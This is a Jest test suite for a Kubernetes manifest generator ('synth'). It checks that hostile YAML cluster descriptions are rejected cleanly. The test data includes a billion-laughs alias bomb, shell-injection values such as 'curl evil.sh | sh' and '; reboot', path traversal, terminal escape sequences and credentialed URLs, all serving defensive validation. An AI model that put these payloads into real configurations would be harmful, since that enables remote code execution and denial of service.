/**
 * Hostile cluster descriptions given to synth: each is refused with exit 1 and one line
 * naming the field (or the file) and the fix, quickly, with no stack trace, and dist/
 * (indeed the whole tree) left exactly as it was.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { loadClusterConfig } from '../../lib';
import { MAX_CLUSTER_CONFIG_BYTES } from '../../lib/config/cluster-config';
import { IS_ROOT, Sandbox, changedPaths, fingerprint, makeSandbox, runSynthIn } from './synth-harness';

let box: Sandbox;
beforeEach(() => {
  box = makeSandbox();
});
afterEach(() => box.remove());

function distinctKeys(under: string, bytes: number): string {
  let text = `${under}:\n`;
  for (let i = 0; text.length < bytes - 32; i++) text += `  key${i}: v\n`;
  return text;
}

const laughs = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
].join('\n');

const model = (url: string) => `models:
  - name: densenet_onnx
    downloads:
      - url: ${url}
        archive: file
        files: [{ to: 1/model.onnx }]
    config:
      platform: onnxruntime_onnx
      maxBatchSize: 0
      input:  [{ name: data_0, dataType: TYPE_FP32, format: FORMAT_NCHW, dims: [3, 224, 224] }]
      output: [{ name: fc6_1, dataType: TYPE_FP32, dims: [1000] }]
`;

/**
 * Models whose inline file is one YAML anchor aliased `count` times: a description of about
 * `kib` KiB that makes the seeding ConfigMap hold `count` times as much (issue 20.10).
 */
function aliasedInlineFiles(count: number, kib: number): string {
  const content = 'label\n'.repeat((kib * 1024) / 6);
  const modelYaml = (i: number) => `  - name: big_${i}
    downloads: [{ url: "https://models.example.org/big_${i}.onnx", archive: file, files: [{ to: 1/model.onnx }] }]
    inlineFiles: [{ to: labels.txt, content: ${i === 0 ? `&labels ${JSON.stringify(content)}` : '*labels'} }]
    config: { backend: onnxruntime, input: [{ name: x, dataType: TYPE_FP32, dims: [1] }], output: [{ name: y, dataType: TYPE_FP32, dims: [1], labelFilename: labels.txt }] }
`;
  return `models:
${Array.from({ length: count }, (_, i) => modelYaml(i)).join('')}`;
}

/** A valid extra model whose `config:` gets `extra` (YAML flow entries) and whose input is named `input`. */
function modelWithConfig(extra: string, input = 'data_0'): string {
  return `models:
  - name: densenet_onnx
    downloads: [{ url: "https://models.example.org/densenet.onnx", archive: file, files: [{ to: 1/model.onnx }] }]
    config: { platform: onnxruntime_onnx, maxBatchSize: 8, input: [{ name: ${JSON.stringify(input)}, dataType: TYPE_FP32, dims: [3, 224, 224] }], output: [{ name: fc6_1, dataType: TYPE_FP32, dims: [1000] }]${extra ? `, ${extra}` : ''} }
`;
}

const longPrefix = (n: number) => `${'a'.repeat(60)}.`.repeat(Math.ceil(n / 61)).slice(0, n).replace(/\.$/, 'b');

/** [what, file content (string) or how to make the --config path, text the one line must hold]. */
const cases: [string, string | ((dir: string) => string), string][] = [
  ['a folder given as --config (EISDIR)', (dir) => { mkdirSync(path.join(dir, 'conf.d')); return path.join(dir, 'conf.d'); }, 'is a folder, not a file'],
  ['a character device (/dev/zero)', () => '/dev/zero', 'is not a regular file'],
  ['a FIFO (would block a plain read forever)', (dir) => {
    const fifo = path.join(dir, 'fifo.yaml');
    spawnSync('mkfifo', [fifo]);
    return fifo;
  }, 'is not a regular file'],
  ['a path through a file (ENOTDIR)', (dir) => path.join(dir, 'afile.txt', 'cluster.yaml'), 'not a folder'],
  ['a file over 1 MB', 'x'.repeat(MAX_CLUSTER_CONFIG_BYTES + 1), 'larger than 1 MB'],
  ['1 MB of distinct keys (quadratic before)', distinctKeys('junk', MAX_CLUSTER_CONFIG_BYTES), 'junk: unknown key'],
  ['a billion-laughs alias bomb', laughs, 'YAML aliases expand too much'],
  ['nesting 200 levels deep', `${'['.repeat(200)}${']'.repeat(200)}\n`, 'nested deeper than 64 levels'],
  ['a repeated key', 'nfs:\n  server: 10.0.0.30\n  server: 10.0.0.31\n', '"server" repeats at line 3'],
  ['a repeated key spelled as a quoted string', 'storage:\n  size: 1Gi\n  "size": 2Gi\n', '"size" repeats at line 3'],
  ['a YAML syntax error', 'nfs: [unclosed\n', 'YAML'],
  ['two YAML documents', 'nfs: {}\n---\nnfs: {}\n', 'YAML'],
  ['a list instead of a map', '- nfs\n- triton\n', '(top level): expected object'],
  ['binary garbage', '\u0000\u0001\u0002\u00ff\ufffd\u001b[31m', '(top level)'],
  ['a key with a terminal escape and a newline', '"\\e[31mevil\\nline": 1\n', 'unknown key'],
  ['a 100 KB key', `? ${'k'.repeat(100_000)}\n: 1\n`, 'unknown key'],
  ['the K3s installer URL with user:password@', 'k3s:\n  installScriptUrl: https://admin:hunter2@get.k3s.io\n', 'k3s.installScriptUrl: must not hold a user name or password'],
  ['the seeding mirror with a user@ only', 'seeding:\n  mirror: http://deploy@mirror.lan/models\n', 'seeding.mirror: must not hold a user name or password'],
  ['a model download URL with credentials', model('https://user:token@models.example.com/densenet.onnx'), 'models[0].downloads[0].url: must not hold a user name or password'],
  ['a storage size of 0', 'storage:\n  size: "0"\n', 'storage.size: must be more than 0'],
  ['a storage size of 0Gi', 'storage:\n  size: 0Gi\n', 'storage.size: must be more than 0'],
  ['a storage size of 0.0e3', 'storage:\n  size: "0.0e3"\n', 'storage.size: must be more than 0'],
  ['a memory limit of 0', 'triton:\n  resources:\n    memoryLimit: "0"\n    memoryRequest: "0"\n', 'triton.resources.memoryLimit: must be more than 0'],
  ['a memory request above the limit', 'triton:\n  resources:\n    memoryRequest: 4Gi\n    memoryLimit: 3Gi\n', 'triton.resources.memoryRequest: 4Gi is above memoryLimit 3Gi'],
  ['a memory request 1 MiB above the limit in other units', 'triton:\n  resources:\n    memoryRequest: 3073Mi\n    memoryLimit: 3Gi\n', 'triton.resources.memoryRequest: 3073Mi is above'],
  ['a memory request above the default limit', 'triton:\n  resources:\n    memoryRequest: 4G\n', 'triton.resources.memoryRequest: 4G is above memoryLimit 3Gi'],
  ['a quantity with a huge exponent', 'storage:\n  size: "1e999999999"\n', 'storage.size: must be a Kubernetes quantity'],
  ['a quantity of 100 digits', `storage:\n  size: "${'9'.repeat(100)}"\n`, 'storage.size: must be a Kubernetes quantity'],
  ['an nvpmodel mode that is a shell command', 'nodes:\n  server:\n    name: jm-node-1\n    powerMode:\n      nvpmodel: "0; reboot"\n', 'nodes.server.powerMode.nvpmodel'],
  ['an nvpmodel mode out of range', 'hostPrep:\n  powerModes:\n    jetpack4:\n      nvpmodel: 100000\n', 'hostPrep.powerModes.jetpack4.nvpmodel'],
  ['a power mode for an unknown profile', 'hostPrep:\n  powerModes:\n    jetpack9:\n      nvpmodel: 0\n', 'hostPrep.powerModes'],
  ['nodes written as one list', 'nodes:\n  - { name: jm-node-1, address: 10.0.0.31 }\n', 'nodes: must be a mapping with the server apart from its agents: nodes: { server:'],
  ['nodes written as a string', 'nodes: jm-node-1\n', 'nodes: must be a mapping with the server apart from its agents'],
  ['an empty power mode', 'nodes:\n  server:\n    name: jm-node-1\n    powerMode: {}\n', 'nodes.server.powerMode: must set nvpmodel (a mode number) or jetsonClocks'],
  ['a minReadySeconds of a day', 'triton:\n  minReadySeconds: 86400\n', 'triton.minReadySeconds: must be at most 3600 seconds'],
  ['a k3s-upgrade image with a shell command', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: "rancher/k3s-upgrade; curl evil.sh | sh"\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image reference'],
  ['a k3s-upgrade image pinned to another release', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: rancher/k3s-upgrade:v1.35.0-k3s1\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image name without tag'],
  ['a drain timeout beyond SUC\'s job deadline', 'upgrades:\n  systemUpgradeController:\n    drain: { timeoutSeconds: 3600 }\n', 'upgrades.systemUpgradeController.drain.timeoutSeconds: must be at most 840 seconds, below SUC'],
  // Issue 20.13: the managed NFS server would export these read-write (no_root_squash) to the cluster.
  ...([
    ['/', 'the whole of "/"'], ['//', 'the whole of "/"'], ['/.', 'the whole of "/"'], ['/var', 'the whole of "/var"'], ['/var/', 'the whole of "/var"'],
    ['/home', 'the whole of "/home"'], ['/home/alice', 'the whole of "/home/alice"'], ['/srv', 'the whole of "/srv"'], ['/mnt', 'the whole of "/mnt"'], ['/opt', 'the whole of "/opt"'],
  ] as const).map(([path, what]): [string, string, string] => [`nfs.path ${path} with nfsServer.managed: true`,
    `nfs:\n  path: "${path}"\nnfsServer:\n  managed: true\n`, `nfs.path: with nfsServer.managed: true this would export ${what} read-write to the cluster; `]),
  ...['/etc', '/etc/', '/usr/local/share', '/root', '/root/models', '/boot', '/proc/self', '/sys', '/dev/shm', '/run', '/bin', '/sbin', '/lib', '/lib64/x',
    '/var/lib', '/var/lib/rancher', '/var/log', '/tmp/nfs', '/var/tmp/x', '//etc', '/./etc/./ssh'].map((path): [string, string, string] => [`nfs.path ${path} (a system folder)`,
    `nfs:\n  path: "${path}"\n`, 'nfs.path: is a system folder (']),
  // Issue 20.14: a "hostname" whose last label is a number is an IPv4 address to getaddrinfo (inet_aton)
  // and to URL parsers: 0x0a.0.0.1 is 10.0.0.1, so one board could be listed twice unnoticed.
  ...([
    ['nfs.server 0x0a.0.0.30 (10.0.0.30 to the resolver)', 'nfs:\n  server: 0x0a.0.0.30\n', 'nfs.server: "0x0a.0.0.30" ends in a number, so resolvers and URL parsers read it as an IPv4 address'],
    ['a node address 0xa000001 (10.0.0.1)', 'nodes:\n  server: { name: jm-node-1, address: "0xa000001" }\n', 'nodes.server.address: "0xa000001" ends in a number, so resolvers and URL parsers read it as an IPv4 address'],
    ['an agent spelling the server\'s address 10.0.0.31 as 0x0a.0.0.31', 'nodes:\n  server: { name: jm-node-1, address: 10.0.0.31 }\n  agents: [{ name: jm-node-2, address: 0X0A.0.0.31 }]\n', 'nodes.agents[0].address: "0X0A.0.0.31" ends in a number, so resolvers and URL parsers read it as an IPv4 address'],
    ['a hostname ending in a decimal label (nas.lan.1)', 'nfs:\n  server: nas.lan.1\n', 'nfs.server: "nas.lan.1" ends in a number, so resolvers and URL parsers read it as an IPv4 address'],
  ] as const).map(([what, yaml, line]): [string, string, string] => [what, yaml, line]),
  // Issue 20.17: values that passed validation but that the API server, Triton or Prometheus refuse.
  ['seeding.runAsUser 4294967296 (2^32)', 'seeding:\n  runAsUser: 4294967296\n', 'seeding.runAsUser: must be at most 2147483647 (the API server\'s largest user id)'],
  ['seeding.runAsUser 2147483648 (2^31)', 'seeding:\n  runAsUser: 2147483648\n', 'seeding.runAsUser: must be at most 2147483647'],
  ['maxBatchSize 2^40 (int32 in model_config.proto)', modelWithConfig('').replace('maxBatchSize: 8', 'maxBatchSize: 1099511627776'), 'models[0].config.maxBatchSize: must be at most 2147483647 (an int32 in Triton\'s model_config.proto)'],
  ['instance_group count 2^40', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, count: 1099511627776 }]'), 'models[0].config.instanceGroup[0].count: must be at most 2147483647'],
  ['a GPU index of 2^31', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, gpus: [2147483648] }]'), 'models[0].config.instanceGroup[0].gpus[0]: must be at most 2147483647'],
  ['a preferred batch size of 2^40', modelWithConfig('dynamicBatching: { preferredBatchSize: [1099511627776] }'), 'models[0].config.dynamicBatching.preferredBatchSize[0]: must be at most 2147483647'],
  ['a preferred batch size above maxBatchSize (Triton refuses it)', modelWithConfig('dynamicBatching: { preferredBatchSize: [4, 16] }'), 'models[0].config.dynamicBatching.preferredBatchSize[1]: 16 is above maxBatchSize 8'],
  ['numVersions 2^32 (uint32)', modelWithConfig('versionPolicy: { latest: { numVersions: 4294967296 } }'), 'models[0].config.versionPolicy.latest.numVersions: must be at most 4294967295 (a uint32'],
  ['a tensor name with a raw control byte', modelWithConfig('', 'data\u00010'), 'models[0].config.input[0].name: must not contain control characters'],
  ['a tensor name with a newline', modelWithConfig('', 'data\n0'), 'models[0].config.input[0].name: must not contain control characters'],
  ['a backend with a NUL byte', modelWithConfig('').replace('platform: onnxruntime_onnx', 'backend: "onnx\\0runtime"'), 'models[0].config.backend: must not contain control characters'],
  ['a parameter key with an escape', modelWithConfig('parameters: { "key\\e[31m": "v" }'), 'models[0].config.parameters.key\\u001b[31m: key must not contain control characters'],
  ['a parameter value with a lone surrogate', modelWithConfig('parameters: { key: "\\ud800" }'), 'models[0].config.parameters.key: must be valid Unicode'],
  // The kubelet refuses these in --node-labels and would never start (cmd/kubelet/app/options/options.go).
  ['a node label in the kubernetes.io namespace', 'nodes:\n  server:\n    name: jm-node-1\n    labels:\n      kubernetes.io/role: gpu\n', 'nodes.server.labels.kubernetes.io/role: key is in the kubernetes.io/k8s.io namespaces, which the kubelet refuses'],
  ['a node label under node-restriction.kubernetes.io', 'nodes:\n  server:\n    name: jm-node-1\n    labels:\n      node-restriction.kubernetes.io/pool: a\n', 'nodes.server.labels.node-restriction.kubernetes.io/pool: key is in the kubernetes.io/k8s.io namespaces'],
  ['a node label under x.k8s.io', 'nodes:\n  server:\n    name: jm-node-1\n  agents:\n    - name: jm-node-2\n      labels:\n        feature.k8s.io/gpu: "true"\n', 'nodes.agents[0].labels.feature.k8s.io/gpu: key is in the kubernetes.io/k8s.io namespaces'],
  ['a node selector key whose prefix has 254 characters', `triton:\n  nodeSelector:\n    ${longPrefix(254)}/jetson: "true"\n`, 'key must be a label key whose prefix (before "/") has at most 253 characters'],
  ['a ServiceMonitor label key whose prefix has 300 characters', `metrics:\n  serviceMonitor:\n    labels:\n      ${longPrefix(300)}/release: x\n`, 'key must be a label key whose prefix (before "/") has at most 253 characters'],
  ['scrapeTimeout longer than interval', 'metrics:\n  serviceMonitor:\n    enabled: true\n    interval: 30s\n    scrapeTimeout: 1m\n', 'metrics.serviceMonitor.scrapeTimeout: 1m is longer than interval 30s'],
  ['scrapeTimeout longer than the default interval', 'metrics:\n  serviceMonitor:\n    scrapeTimeout: 31s\n', 'metrics.serviceMonitor.scrapeTimeout: 31s is longer than interval 30s'],
  ['an interval beyond what Prometheus can hold', 'metrics:\n  serviceMonitor:\n    interval: 999999999999y\n', 'metrics.serviceMonitor.interval: must be at most 292y'],
  // Triton images (docs/profiles.md): a release that is a command, a readiness model that is a path, an
  // image that cannot be pulled, a model the image cannot load.
  ['a Triton release with a shell command', 'triton:\n  tritonVersions:\n    jetpack4: "2.19.0; reboot"\n', 'triton.tritonVersions.jetpack4: must be a Triton release such as "2.19.0"'],
  ['a Triton release for an unknown profile', 'triton:\n  tritonVersions:\n    jetpack9: "2.19.0"\n', 'triton.tritonVersions.jetpack9: unknown key'],
  ['a readiness model that climbs out of the URL path', 'triton:\n  readinessModel: "../../v2/health/live"\n', 'triton.readinessModel: must be letters, digits'],
  ['a readiness model the stack does not seed', 'triton:\n  readinessModel: densenet\n', 'triton.readinessModel: "densenet" is not a model the stack seeds'],
  ['a jetpack5 board without its image', 'nodes:\n  server:\n    name: xavier-1\n    profile: jetpack5\n', 'triton.images.jetpack5: the jetpack5 boards (xavier-1) need your image'],
  ['an image whose Triton release cannot be told', 'triton:\n  image: registry.lan/triton:custom\n', 'triton.tritonVersions.jetpack4: the Triton release in triton.image "registry.lan/triton:custom" cannot be told'],
  ['a PyTorch model on the tutorial\'s Nanos', modelWithConfig('').replace('platform: onnxruntime_onnx', 'platform: pytorch_libtorch'), 'models[0]: model "densenet_onnx" needs the pytorch backend; the jetpack4 image janakiramm/triton-jetson (Triton 2.17.0)'],
  // Issue 20.10: one 250 KiB inline file aliased 8 times made a 2 MB ConfigMap (the API server takes 1 MiB).
  ['inline files reused through YAML aliases: a 2 MB seeding ConfigMap', aliasedInlineFiles(8, 250),
    'models: the seeding ConfigMap would hold 2.0 MiB (2079891 bytes), over the API server\'s limit of 1 MiB (1048576 bytes); heaviest: big_0 250.2 KiB, big_1 250.2 KiB, big_2 250.2 KiB; move large inlineFiles to downloads'],
  // Pod customization (lib/config/pod-schema.ts): nothing redirects a workload or escapes its selector.
  ['an env var name with a newline', 'triton:\n  env: [{ name: "A\\nB", value: x }]\n', 'triton.env[0].name: must be an environment variable name'],
  ['an env var that moves the seeding script\'s root', 'seeding:\n  env: [{ name: SEED_ROOT, value: /etc }]\n', 'seeding.env[0].name: "SEED_ROOT" is set by the workload itself'],
  ['an env var that repoints the provisioner', 'provisioner:\n  env: [{ name: NFS_PATH, value: / }]\n', 'provisioner.env[0].name: "NFS_PATH" is set by the workload itself'],
  ['a pod label that takes over the selector', 'triton:\n  podLabels: { app: nfs-subdir-external-provisioner }\n', 'triton.podLabels.app: is a label the stack sets'],
  ['a pull secret named with a path', 'provisioner:\n  imagePullSecrets: ["../../etc/passwd"]\n', 'provisioner.imagePullSecrets[0]: must be a DNS-1123 subdomain'],
  ['an annotation key with a terminal escape', 'seeding:\n  jobAnnotations: { "\\e[31mx": y }\n', 'seeding.jobAnnotations.\\u001b[31mx: key must be a label key'],
  ['a toleration of every taint spelled Equal', 'triton:\n  tolerations: [{ operator: Equal }]\n', 'triton.tolerations[0].operator: must be "Exists" when no key is given'],
];

describe('synth refuses hostile cluster descriptions in one line, changing nothing', () => {
  test.each(cases)('%s', (_what, content, mustHold) => {
    const file = typeof content === 'string' ? path.join(box.root, 'hostile.yaml') : content(box.root);
    if (typeof content === 'string') writeFileSync(file, content);
    const before = fingerprint(box.root);
    const started = Date.now();
    const { status, lines } = runSynthIn(box.repo, ['--config', file]);
    const seconds = (Date.now() - started) / 1000;
    expect({ status, lines }).toEqual({ status: 1, lines: [expect.stringContaining(mustHold)] });
    expect(lines[0]).toMatch(/^synth: /);
    expect(lines[0]).toContain('dist/ left unchanged');
    expect(lines[0]).not.toMatch(/\u001b|\n|\r/);
    expect(lines[0].length).toBeLessThan(700);
    // Linear and bounded: seconds, not the >30 s of the quadratic duplicate-key check (generous for loaded CI).
    expect(seconds).toBeLessThan(15);
    expect(changedPaths(before, fingerprint(box.root))).toEqual([]);
  });

  // Root reads any file whatever its mode, so as root the synth runs in a child process
  // without CAP_DAC_OVERRIDE/CAP_DAC_READ_SEARCH (setpriv), where a mode-000 file is
  // unreadable as it is for any user.
  test('an unreadable file (EACCES)', () => {
    const file = path.join(box.root, 'secret.yaml');
    writeFileSync(file, 'nfs: {}\n');
    chmodSync(file, 0o000);
    const before = fingerprint(box.root);
    let run: { status: number | null; lines: string[] };
    if (IS_ROOT) {
      const child = spawnSync('setpriv', [
        '--bounding-set=-dac_override,-dac_read_search', '--', process.execPath,
        path.join(__dirname, '..', '..', 'bin', 'synth.js'), '--config', file,
      ], { cwd: box.repo, encoding: 'utf-8', timeout: 60_000 });
      run = { status: child.status, lines: child.stderr.trimEnd().split('\n') };
    } else {
      run = runSynthIn(box.repo, ['--config', file]);
    }
    expect({ status: run.status, lines: run.lines }).toEqual({ status: 1, lines: [expect.stringContaining('permission denied (EACCES)')] });
    expect(changedPaths(before, fingerprint(box.root))).toEqual([]);
  });

  test('EACCES is mapped to a one-line permission message (also checked as root, with a stubbed open)', () => {
    const fs = jest.requireActual<typeof import('node:fs')>('node:fs');
    const spy = jest.spyOn(fs, 'openSync').mockImplementation(() => {
      throw Object.assign(new Error("EACCES: permission denied, open 'secret.yaml'"), { code: 'EACCES' });
    });
    try {
      expect(() => loadClusterConfig('secret.yaml', true)).toThrow(/^cannot use cluster description secret\.yaml: cannot read it: permission denied \(EACCES\); make it readable, e\.g\. chmod u\+r secret\.yaml$/);
    } finally {
      spy.mockRestore();
    }
  });
});

describe('what is still accepted', () => {
  test.each([
    ['a request equal to the limit in other units', 'triton:\n  resources:\n    memoryRequest: 3072Mi\n    memoryLimit: 3Gi\n'],
    ['fractional and exponent quantities', 'storage:\n  size: "1.5e10"\ntriton:\n  resources:\n    cpuRequest: 500m\n    memoryRequest: 0.5Gi\n'],
    ['a URL with "@" only in its path or query', 'seeding:\n  mirror: https://mirror.lan/team@site/models?owner=a@b\n'],
    ['aliases used sparingly', 'triton:\n  nodeSelector: &sel\n    triton-jetson.dev/jetson: "true"\n'],
    ['100 KB of a valid description (comments)', `${'# comment\n'.repeat(10_000)}nfs:\n  server: nas.lan\n`],
    // Issue 20.13: folders of their own below the parents stay valid (the tutorial's first).
    ...['/var/nfs/general', '/var/nfs', '/srv/nfs', '/srv/nfs/models/', '/home/alice/nfs', '/mnt/pool/models', '/opt/nfs', '/export', '/var/www-models', '/etcetera', '/data']
      .map((path): [string, string] => [`a managed export at ${path}`, `nfs:\n  path: "${path}"\nnfsServer:\n  managed: true\n`]),
    ['an NFSv4 pseudo-root "/" on a server this project does not manage', 'nfs:\n  path: /\n'],
    // Issue 20.17: the limits themselves are accepted.
    ['runAsUser 2147483647', 'seeding:\n  runAsUser: 2147483647\n'],
    ['int32 and uint32 fields at their largest', modelWithConfig('instanceGroup: [{ kind: KIND_GPU, count: 2147483647, gpus: [2147483647] }], versionPolicy: { latest: { numVersions: 4294967295 } }').replace('maxBatchSize: 8', 'maxBatchSize: 2147483647')],
    ['a preferred batch size equal to maxBatchSize', modelWithConfig('dynamicBatching: { preferredBatchSize: [8] }')],
    ['a parameter value with a newline and a tab (escaped in config.pbtxt)', modelWithConfig('parameters: { key: "two\\nlines\\tand a tab" }')],
    ['a label key whose prefix has 253 characters', `triton:\n  nodeSelector:\n    ${longPrefix(253)}/jetson: "true"\n`],
    ['scrapeTimeout equal to interval, in other units', 'metrics:\n  serviceMonitor:\n    interval: 1m\n    scrapeTimeout: 60s\n'],
    ['a declared Triton release for a custom image', 'triton:\n  image: registry.lan/triton:custom\n  tritonVersions:\n    jetpack4: "2.19.0"\n'],
    ['a jetpack5 board with its pushed image', 'nodes:\n  server:\n    name: xavier-1\n    profile: jetpack5\ntriton:\n  images:\n    jetpack5: registry.lan/triton-jetson:2.35.0-jetpack5.1.2\nseeding:\n  builtinModels: false\n  catalogModels: [densenet_onnx]\n'],
  ])('%s', (_what, content) => {
    const file = path.join(box.root, 'ok.yaml');
    writeFileSync(file, content);
    const { status, lines } = runSynthIn(box.repo, ['--config', file]);
    expect(lines).toEqual([expect.stringMatching(/^synth: dist\/triton-jetson\.k8s\.yaml$/)]);
    expect(status).toBe(0);
  });
});
